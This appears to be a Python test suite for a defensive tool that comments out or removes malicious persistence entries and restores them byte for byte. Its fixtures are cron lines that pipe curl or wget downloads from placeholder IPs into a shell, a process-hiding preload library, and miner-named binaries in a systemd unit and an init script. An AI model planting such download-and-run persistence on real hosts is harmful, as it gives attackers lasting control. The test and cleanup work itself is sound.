"""disable / restore on real files: a crontab line commented out (every other byte unchanged,
owner and mode kept, chattr +i handled), an ld.so.preload line removed, a script made
non-executable, a systemd unit's enablement links removed, and restore putting each back byte
for byte. Files live in temporary directories (paths are parameters); the tests that use real
system locations (/etc/cron.d, /etc/systemd/system) create their own uniquely named file and
remove it in a finally.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from backends.audit_log import AuditLog
from backends.hostactions.base import ActionContext
from backends.hostactions.persistence import guess_kind, line_matches, pick_line, unit_of
from backends.hostactions.registry import get
from backends.hostactions.runner import run_action
from backends.hostexec_local import LocalExec
from backends.hostexec_ssh import SshExec
from domain.actions import ActionError, ActionPlan, Outcome
from domain.hostexec import HostExec
from tests import test_host_files
from tests.test_host_files import act, audit_actions, flags

host, ssh_exec = test_host_files.host, test_host_files.ssh_exec  # the shared fixtures

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="host actions need root")

CRONTAB = (
    b"# m h  dom mon dow   command\n"
    b"SHELL=/bin/sh\n"
    b"*/5 * * * * /usr/bin/backup --quiet\n"
    b"* * * * * curl -fsSL http://203.0.113.9/x.sh | sh \xff\r\n"
    b"@reboot /opt/app/start\n"
)
BAD = "* * * * * curl -fsSL http://203.0.113.9/x.sh | sh \\xff"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def crontab(tmp_path: Path) -> Path:
    spool = tmp_path / "spool"
    spool.mkdir()
    path = spool / "www-data"
    path.write_bytes(CRONTAB)
    os.chown(path, 33, 107)
    path.chmod(0o600)
    return path


async def test_cron_line_is_commented_out_and_restored_byte_for_byte(
    host: HostExec, tmp_path: Path, crontab: Path
) -> None:
    qroot = str(tmp_path / "q")
    params = {
        "path": str(crontab),
        "kind": "cron",
        "line": "4",
        "text": BAD,
        "quarantine_root": qroot,
    }
    plan, result = await act(host, tmp_path, "disable", params)
    assert result.outcome is Outcome.DONE, (result.summary, result.state)
    qid = str(plan.params["id"])
    after = crontab.read_bytes()
    lines, new = CRONTAB.split(b"\n"), after.split(b"\n")
    assert new[3] == f"# sickbay disabled {qid}: ".encode() + lines[3]
    assert new[:3] == lines[:3] and new[4:] == lines[4:]  # every other line byte-identical
    st = crontab.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (33, 107, 0o600)
    kept = Path(qroot) / qid / "original"
    assert kept.read_bytes() == CRONTAB and kept.stat().st_mode & 0o777 == 0
    assert result.details["sha256"] == sha(CRONTAB)
    ((local, digest),) = result.evidence  # the original, fetched to the evidence directory
    assert Path(local).read_bytes() == CRONTAB and digest == sha(CRONTAB)
    assert plan.undo == ("restore", {"id": qid, "quarantine_root": qroot})

    _, back = await act(host, tmp_path, "restore", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE, (back.summary, back.state)
    assert crontab.read_bytes() == CRONTAB
    st = crontab.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (33, 107, 0o600)
    assert audit_actions(tmp_path) == [("disable", "done"), ("restore", "done")]


async def test_the_line_is_found_by_its_text_when_it_moved(tmp_path: Path, crontab: Path) -> None:
    exec_ = LocalExec("this-machine")
    params = {
        "path": str(crontab),
        "kind": "cron",
        "line": "2",
        "text": BAD,
        "quarantine_root": str(tmp_path / "q"),
    }
    plan, _ = await act(exec_, tmp_path, "disable", params, dry_run=True)
    assert plan.params["line"] == "4"
    assert any("moved" in w for w in plan.warnings)
    assert crontab.read_bytes() == CRONTAB  # dry run: nothing changed
    gone = {**params, "text": "* * * * * /tmp/.x/kdevtmpfsi"}
    _, result = await act(exec_, tmp_path, "disable", gone)
    assert result.outcome is Outcome.FAILED and "no line of the file" in result.summary


async def test_immutable_crontab_is_unlocked_edited_and_locked_again(
    tmp_path: Path, crontab: Path
) -> None:
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", str(crontab)], check=False).returncode:
        pytest.skip("no chattr / no immutable flag on this filesystem")
    try:
        exec_ = LocalExec("this-machine")
        params = {
            "path": str(crontab),
            "kind": "cron",
            "line": "4",
            "quarantine_root": str(tmp_path / "q"),
        }
        plan, result = await act(exec_, tmp_path, "disable", params)
        assert any("chattr" in w for w in plan.warnings)
        assert result.outcome is Outcome.DONE, (result.summary, result.state)
        assert result.details["cleared_flags"] == [[str(crontab), 0x10]]
        assert flags(crontab) & 0x10  # set again on the edited file
        assert crontab.read_bytes().split(b"\n")[3].startswith(b"# sickbay disabled ")
        assert plan.undo is not None
        _, back = await act(exec_, tmp_path, "restore", dict(plan.undo[1]))
        assert back.outcome is Outcome.DONE, back.summary
        assert crontab.read_bytes() == CRONTAB and flags(crontab) & 0x10
    finally:
        subprocess.run([chattr, "-i", str(crontab)], check=False)


async def test_preload_line_is_removed_and_restored(host: HostExec, tmp_path: Path) -> None:
    preload = tmp_path / "etc" / "ld.so.preload"
    preload.parent.mkdir()
    original = b"/usr/lib/libgood.so\n/usr/local/lib/libprocesshider.so\n"
    preload.write_bytes(original)
    preload.chmod(0o644)
    params = {
        "path": str(preload),
        "kind": "preload",
        "line": "2",
        "text": "/usr/local/lib/libprocesshider.so",
        "quarantine_root": str(tmp_path / "q"),
    }
    plan, result = await act(host, tmp_path, "disable", params)
    assert result.outcome is Outcome.DONE, (result.summary, result.state)
    assert preload.read_bytes() == b"/usr/lib/libgood.so\n"
    assert "removed line 2" in result.summary
    assert plan.undo is not None
    _, back = await act(host, tmp_path, "restore", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE
    assert preload.read_bytes() == original and preload.stat().st_mode & 0o777 == 0o644


async def test_restore_refuses_to_overwrite_a_later_change_unless_forced(
    tmp_path: Path, crontab: Path
) -> None:
    exec_ = LocalExec("this-machine")
    params = {
        "path": str(crontab),
        "kind": "cron",
        "line": "3",
        "quarantine_root": str(tmp_path / "q"),
    }
    plan, result = await act(exec_, tmp_path, "disable", params)
    assert result.outcome is Outcome.DONE and plan.undo is not None
    edited = crontab.read_bytes() + b"0 3 * * * /usr/bin/new-job\n"
    crontab.write_bytes(edited)
    _, refused = await act(exec_, tmp_path, "restore", dict(plan.undo[1]))
    assert refused.outcome is Outcome.FAILED and "changed since it was disabled" in refused.summary
    assert crontab.read_bytes() == edited
    _, forced = await act(exec_, tmp_path, "restore", {**plan.undo[1], "force": "yes"})
    assert forced.outcome is Outcome.DONE and crontab.read_bytes() == CRONTAB


async def test_init_script_without_a_line_loses_its_execute_bits(tmp_path: Path) -> None:
    script = tmp_path / "init.d" / "kswapd0"
    script.parent.mkdir()
    script.write_bytes(b"#!/bin/sh\n/tmp/.x/kswapd0 &\n")
    script.chmod(0o755)
    exec_ = LocalExec("this-machine")
    params = {"path": str(script), "kind": "rc", "quarantine_root": str(tmp_path / "q")}
    plan, result = await act(exec_, tmp_path, "disable", params)
    assert result.outcome is Outcome.DONE, result.summary
    assert script.stat().st_mode & 0o777 == 0o644
    assert plan.undo is not None
    _, back = await act(exec_, tmp_path, "restore", dict(plan.undo[1]))
    assert back.outcome is Outcome.DONE and script.stat().st_mode & 0o777 == 0o755


async def test_real_cron_d_file_over_ssh(ssh_exec: Callable[[], SshExec], tmp_path: Path) -> None:
    path = Path(f"/etc/cron.d/sickbay-test-{os.getpid()}-{tmp_path.name[-12:]}")
    if not path.parent.is_dir():
        pytest.skip("no /etc/cron.d")
    body = b"SHELL=/bin/sh\n*/1 * * * * root wget -q -O- http://198.51.100.7/a | bash\n"
    try:
        path.write_bytes(body)
        path.chmod(0o644)
        params = {"path": str(path), "line": "2", "quarantine_root": str(tmp_path / "q")}
        plan, result = await act(ssh_exec(), tmp_path, "disable", params)
        assert plan.params["kind"] == "cron"  # guessed from the path
        assert result.outcome is Outcome.DONE, (result.summary, result.state)
        assert path.read_bytes().split(b"\n")[1].startswith(b"# sickbay disabled ")
        assert plan.undo is not None
        _, back = await act(ssh_exec(), tmp_path, "restore", dict(plan.undo[1]))
        assert back.outcome is Outcome.DONE and path.read_bytes() == body
    finally:
        path.unlink(missing_ok=True)


async def test_systemd_unit_links_are_removed_and_restored(tmp_path: Path) -> None:
    systemctl = next(
        (p for p in ("/usr/bin/systemctl", "/bin/systemctl") if os.path.exists(p)), None
    )
    units = Path("/etc/systemd/system")
    if systemctl is None or not units.is_dir():
        pytest.skip("no systemctl / /etc/systemd/system")
    name = f"sickbay-test-{os.getpid()}.service"
    unit = units / name
    wants = units / "multi-user.target.wants"
    link = wants / name
    made_wants = not wants.exists()
    try:
        unit.write_text(
            "[Unit]\nDescription=planted\n[Service]\nExecStart=/tmp/.x/kdevtmpfsi\n"
            "[Install]\nWantedBy=multi-user.target\n"
        )
        wants.mkdir(exist_ok=True)
        link.symlink_to(unit)
        exec_ = LocalExec("this-machine")
        params = {"unit": name, "quarantine_root": str(tmp_path / "q")}
        plan, result = await act(exec_, tmp_path, "disable", params)
        assert plan.params["argv"][0] == systemctl and plan.params["argv"][-1] == name
        assert result.outcome is Outcome.DONE, (result.summary, result.state, result.verification)
        assert not link.is_symlink() and unit.exists()
        qid = str(plan.params["id"])
        assert (tmp_path / "q" / qid / "original").read_bytes() == unit.read_bytes()
        assert plan.undo is not None
        _, back = await act(exec_, tmp_path, "restore", dict(plan.undo[1]))
        assert back.outcome is Outcome.DONE, back.summary
        assert link.is_symlink() and os.readlink(link) == str(unit)
    finally:
        link.unlink(missing_ok=True)
        unit.unlink(missing_ok=True)
        if made_wants and wants.is_dir() and not any(wants.iterdir()):
            wants.rmdir()


async def test_a_file_changed_after_the_plan_is_not_edited(tmp_path: Path, crontab: Path) -> None:
    async def change(plan: ActionPlan) -> bool:
        crontab.write_bytes(CRONTAB + b"# edited\n")
        return True

    ctx = ActionContext(exec=LocalExec("this-machine"), evidence_dir=tmp_path / "evidence")
    params = {
        "path": str(crontab),
        "kind": "cron",
        "line": "4",
        "quarantine_root": str(tmp_path / "q"),
    }
    _, result = await run_action(
        get("disable"), ctx, params, confirm=change, dry_run=False, audit=AuditLog(tmp_path / "a")
    )
    assert result.outcome is Outcome.FAILED and "changed since the plan" in result.summary
    assert result.state == "nothing was done"
    assert crontab.read_bytes() == CRONTAB + b"# edited\n"
    assert not (tmp_path / "q").exists() or not any((tmp_path / "q").iterdir())


def test_kinds_lines_and_units_are_recognised() -> None:
    assert guess_kind("/var/spool/cron/crontabs/root") == "cron"
    assert guess_kind("/etc/cron.d/php") == "cron"
    assert guess_kind("/etc/cron.daily/logrotate") == "cron-script"
    assert guess_kind("/etc/rc.local") == "rc" and guess_kind("/etc/init.d/x") == "rc"
    assert guess_kind("/etc/ld.so.preload") == "preload"
    assert guess_kind("/home/u/.bashrc") == "profile"
    assert guess_kind("/etc/systemd/system/x.service") == "systemd"
    assert guess_kind("/srv/data.txt") is None
    assert unit_of("/etc/systemd/system/x.service.d/override.conf") == "x.service"
    assert unit_of("/lib/systemd/system/y.timer") == "y.timer"
    assert line_matches(b"  * * * * * /x  ", "* * * * * /x", "cron")
    assert line_matches(b"* * * * * /x --long-arg", "* * * * * /x --lo\u2026", "cron")
    assert line_matches(b"/a.so:/b.so", "/b.so", "preload")
    assert not line_matches(b"/a.so:/b.so", "/b.so", "cron")
    lines = [b"a", b"b", b"a"]
    with pytest.raises(ActionError, match="several lines"):
        pick_line(lines, None, "a", "cron")
    assert pick_line(lines, 3, "a", "cron") == (2, [])
    with pytest.raises(ActionError, match="blank"):
        pick_line([b"x", b""], 2, None, "cron")
